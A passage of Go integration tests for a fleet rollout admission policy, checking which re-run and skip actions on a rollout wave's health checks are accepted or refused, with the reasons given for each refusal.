	given := []fleetv1alpha1.CheckAction{{Wave: "canary", Check: "errors", Action: fleetv1alpha1.CheckRerun,
		ChangeRecord: fleetv1alpha1.ChangeRecord{By: "bob", Message: "while it baked"}}}
	teamRollout(t, ctx, "rerun-over", func(r *fleetv1alpha1.Rollout) { r.Spec.CheckActions = given })
	r := &fleetv1alpha1.Rollout{}
	if err := admin.Get(ctx, client.ObjectKey{Namespace: actorsNS, Name: "rerun-over"}, r); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = deleteWithUID(admin, r) })
	bakeChecks := []fleetv1alpha1.WaveCheckStatus{{Name: "errors", When: fleetv1alpha1.CheckDuringBake}, {Name: "smoke", When: fleetv1alpha1.CheckDuringProgress}}
	st := fleetv1alpha1.RolloutStatus{Phase: fleetv1alpha1.RolloutPhaseBaking, CurrentWave: "prod", Waves: []fleetv1alpha1.WaveStatus{
		{Name: "canary", Phase: fleetv1alpha1.WavePhaseSucceededWithFailures, Checks: bakeChecks},
		{Name: "prod", Phase: fleetv1alpha1.WavePhaseBaking, Checks: bakeChecks},
		{Name: "rest", Phase: fleetv1alpha1.WavePhasePending},
	}}
	setStatus(t, ctx, admin, r, st)
	waitPolicy(t, ctx, team, "rerun-over")

	rerun := func(wave, check, at string) string {
		return `{"spec":{"checkActions":[{"wave":"canary","check":"errors","action":"Rerun","by":"bob","message":"while it baked"},` +
			`{"wave":"` + wave + `","check":"` + check + `","action":"Rerun","by":"alice","at":"` + at + `"}]}}`
	}
	wantRefused(t, "re-run of a check of a wave that is over", patch(ctx, team, "rerun-over", rerun("canary", "smoke", "2026-01-02T03:04:05Z")),
		"check smoke of wave canary is not measured again: the wave is over (SucceededWithFailures)")
	wantRefused(t, "re-run of a Progress check of a baking wave", patch(ctx, team, "rerun-over", rerun("prod", "smoke", "2026-01-02T03:04:05Z")),
		"check smoke of wave prod is not measured again: it runs while clusters progress, and the wave bakes")
	wantRefused(t, "bob's re-run of the canary given again", patch(ctx, team, "rerun-over",
		`{"spec":{"checkActions":[{"wave":"canary","check":"errors","action":"Rerun","by":"alice","at":"2026-01-02T03:04:05Z"}]}}`),
		"check errors of wave canary is not measured again")
	// Nor does the platform skip a check of a wave that is over: that would
	// forget its failures (TestASkipDoesNotEraseTheFailuresOfAWaveThatIsOver).
	wantRefused(t, "platform: skip of a check of a wave that is over", patch(ctx, platform, "rerun-over",
		`{"spec":{"checkActions":[{"wave":"canary","check":"errors","action":"Rerun","by":"bob","message":"while it baked"},`+
			`{"wave":"canary","check":"smoke","action":"Skip","by":"pat","message":"noisy"}]}}`),
		"check smoke of wave canary is not measured again: the wave is over (SucceededWithFailures); its verdict and the failures it found stand, and the hub would ignore a skip")
	// What the hub measures may be re-run; records already there stay.
	wantAccepted(t, "re-run of a bake check of the baking wave", patch(ctx, team, "rerun-over", rerun("prod", "errors", "2026-01-02T03:04:05Z")))
	wantAccepted(t, "re-run of a check of a wave to come", patch(ctx, team, "rerun-over",
		`{"spec":{"checkActions":[{"wave":"canary","check":"errors","action":"Rerun","by":"bob","message":"while it baked"},`+
			`{"wave":"prod","check":"errors","action":"Rerun","by":"alice","at":"2026-01-02T03:04:05Z"},`+
			`{"wave":"rest","check":"smoke","action":"Rerun","by":"alice","at":"2026-01-02T03:04:05Z"}]}}`))
	wantAccepted(t, "an approval next to the re-runs already given", patch(ctx, team, "rerun-over",
		`{"spec":{"approvals":[{"wave":"prod","by":"alice"}]}}`))

	for _, phase := range []fleetv1alpha1.RolloutPhase{fleetv1alpha1.RolloutPhaseRollingBack, fleetv1alpha1.RolloutPhaseSucceeded} {
		if err := admin.Get(ctx, client.ObjectKeyFromObject(r), r); err != nil {
			t.Fatal(err)
		}
		st.Phase = phase
		setStatus(t, ctx, admin, r, st)
		wantRefused(t, "re-run while the rollout is "+string(phase), patch(ctx, team, "rerun-over", rerun("prod", "errors", "2026-01-02T04:04:05Z")),
			"check errors of wave prod is not measured again: rollout rerun-over is "+string(phase))
	}
}

// A re-run or skip naming a check that a started wave does not run (a
// typo, a check of another wave) is refused, as rerun-check and skip-check
// refuse it: the hub would match it to nothing, and the person would
// believe the check measured again, or skipped.
func TestAnActionOnACheckTheWaveDoesNotRunIsRefused(t *testing.T) {
	ctx := testContext(t)
	team, platform, _, _ := actorsSetup(t, ctx)
	admin := adminClient(t)
	teamRollout(t, ctx, "rerun-typo")
	r := &fleetv1alpha1.Rollout{}
	if err := admin.Get(ctx, client.ObjectKey{Namespace: actorsNS, Name: "rerun-typo"}, r); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = deleteWithUID(admin, r) })
	setStatus(t, ctx, admin, r, fleetv1alpha1.RolloutStatus{Phase: fleetv1alpha1.RolloutPhaseBaking, CurrentWave: "canary", Waves: []fleetv1alpha1.WaveStatus{
		{Name: "canary", Phase: fleetv1alpha1.WavePhaseBaking, Checks: []fleetv1alpha1.WaveCheckStatus{
			{Name: "error-rate", When: fleetv1alpha1.CheckDuringBake}, {Name: "latency", When: fleetv1alpha1.CheckDuringBake}}},
		{Name: "prod", Phase: fleetv1alpha1.WavePhasePending},
	}})
	waitPolicy(t, ctx, team, "rerun-typo")

	wantRefused(t, "re-run of a check the wave does not run", patch(ctx, team, "rerun-typo",
		`{"spec":{"checkActions":[{"wave":"canary","check":"error_rate","action":"Rerun","by":"alice"}]}}`),
		"wave canary runs no check error_rate (its checks: error-rate, latency)")
	wantRefused(t, "platform: skip of a check the wave does not run", patch(ctx, platform, "rerun-typo",
		`{"spec":{"checkActions":[{"wave":"canary","check":"errors","action":"Skip","by":"pat","message":"noisy"}]}}`),
		"wave canary runs no check errors (its checks: error-rate, latency)")
	wantAccepted(t, "re-run of a check the wave runs", patch(ctx, team, "rerun-typo",
		`{"spec":{"checkActions":[{"wave":"canary","check":"error-rate","action":"Rerun","by":"alice"}]}}`))
	// A wave not started yet lists no checks: nothing to tell by.
	wantAccepted(t, "re-run of a check of a wave to come", patch(ctx, team, "rerun-typo",
		`{"spec":{"checkActions":[{"wave":"canary","check":"error-rate","action":"Rerun","by":"alice"},{"wave":"prod","check":"smoke","action":"Rerun","by":"alice"}]}}`))
}
